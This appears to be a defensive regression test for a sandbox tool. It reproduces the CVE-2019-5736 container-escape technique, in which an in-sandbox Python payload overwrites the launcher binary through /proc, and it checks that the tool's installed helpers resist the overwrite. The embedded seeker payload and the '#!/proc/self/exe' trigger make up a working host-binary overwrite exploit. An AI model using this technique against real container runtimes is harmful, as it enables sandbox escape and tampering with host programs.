"""A1 (CVE-2019-5736): a program that is joined into a sandbox is made to run its own launcher's file, which another process inside opens for writing."""
from attack import *

SEEKER = r'''
import errno, os, time
print("waiting", flush=True)
deadline = time.monotonic() + 20
found = None
while found is None and time.monotonic() < deadline:
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            link = os.readlink(f"/proc/{name}/exe")
            if "python" not in link and "/sleep" not in link and int(name) > 1:
                found = os.open(f"/proc/{name}/exe", os.O_PATH)
                print("found", link, flush=True)
                break
        except OSError:
            pass
last = "nothing was found"
while found is not None and time.monotonic() < deadline:
    try:
        file = os.open(f"/proc/self/fd/{found}", os.O_WRONLY)
        os.pwrite(file, b"overwritten", 0)
        last = "overwritten"
        break
    except OSError as error:
        last = errno.errorcode[error.errno]
        if error.errno != errno.ETXTBSY: break
        time.sleep(0.01)
print("end", last, flush=True)
'''
canary = Canary()
evil = f"{HOME}/evil"
os.mkdir(evil)
with open(f"{evil}/script", "w") as file:
    file.write("#!/proc/self/exe\n")
os.chmod(f"{evil}/script", 0o755)


def until(process, word):
    for line in process.stdout:
        if line.startswith(word):
            return line.strip()
    fail(f"no {word!r} from the seeker")


def attack(seeker, join):
    """The seeker runs inside; what joins is held by a pipe that is full, then let go; the seeker's last word."""
    until(seeker, "waiting")
    end, full = os.pipe()
    os.set_blocking(full, False)
    with contextlib.suppress(BlockingIOError):
        while True:
            os.write(full, b"x" * 4096)
    os.set_blocking(full, True)
    guest = subprocess.Popen(join, stdin=subprocess.DEVNULL, stdout=full, stderr=full, start_new_session=True)
    os.close(full)
    found = until(seeker, "found")
    os.killpg(guest.pid, signal.SIGKILL)  # the supervisor of the guest is killed in the middle, too
    os.close(end)
    guest.wait(10)
    return found, until(seeker, "end").removeprefix("end ")


def popen(*command):
    return subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)


# The control: nsenter(1) as a file of the user's own.
if WAY == "user":
    own = f"{HOME}/own-nsenter"
    shutil.copy("/usr/bin/nsenter", own)
    seeker = popen("unshare", "--user", "--map-current-user", "--mount", "--pid", "--fork", "--kill-child", "--mount-proc", PYTHON, "-c", SEEKER)
    first = wait_until("the container", lambda: next((n for n, name in descendants(seeker.pid).items() if name.startswith("python")), None))
    found, last = attack(seeker, [own, "--preserve-credentials", "--user", "--mount", "--pid", f"--target={first}", "--", f"{evil}/script"])
    seeker.wait(10)
    with open(own, "rb") as file:
        control(last == "overwritten" and file.read(11) == b"overwritten", f"{found}, {last}")

# Ours: installed for all, and as a tree of the user's own, whose files the user may write. Landlock keeps guests and app from
# looking into each other at all; without it the file itself must withstand.
shutil.copytree(os.path.dirname(os.path.dirname(SANDBOX)), f"{HOME}/installed")
for program in (SANDBOX, f"{HOME}/installed/bin/sandbox"):
    tree = os.path.dirname(os.path.dirname(program))
    before = snapshot(f"{tree}/bin") | snapshot(f"{tree}/libexec")
    seeker = popen(program, "run", "--profile", "minimal", "--id", "seeker", "--set", "process.landlock=false", "--bind", evil, "--", PYTHON, "-c", SEEKER)
    found, last = attack(seeker, [program, "exec", "seeker", "--", f"{evil}/script"])
    check("sandbox" in os.path.basename(found), f"no program of ours was run: {found}")
    check(last in ("EACCES", "EPERM", "EROFS", "ETXTBSY"), f"the helper of {tree}: {last}")
    seeker.wait(10)
    equal(snapshot(f"{tree}/bin") | snapshot(f"{tree}/libexec"), before, f"the programs of {tree}")
canary.unchanged("after all")
